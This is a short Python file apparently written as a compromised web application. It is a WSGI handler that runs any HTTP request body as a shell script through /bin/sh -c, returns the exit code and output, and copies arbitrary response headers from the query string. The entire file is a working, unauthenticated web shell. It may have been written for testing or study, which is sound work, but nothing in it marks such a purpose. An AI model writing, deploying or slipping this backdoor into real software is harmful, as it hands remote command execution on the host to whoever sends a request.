"""An application that somebody has taken over: it does whatever the visitor wants, with all that it is allowed."""

from __future__ import annotations

import json
import subprocess
import typing as t
from urllib.parse import unquote


def application(environ: dict[str, t.Any], start: t.Callable[..., t.Any]) -> list[bytes]:
    """Run the body as a shell's script and answer with its status and output; send what headers the query says."""
    script = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0)).decode()
    headers = [tuple(unquote(line).split("=", 1)) for line in environ["QUERY_STRING"].split("&") if line]
    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, timeout=20, check=False)
    start("200 OK", [("Content-Type", "application/json"), *headers])
    return [json.dumps({"rc": done.returncode, "output": done.stdout + done.stderr}).encode()]
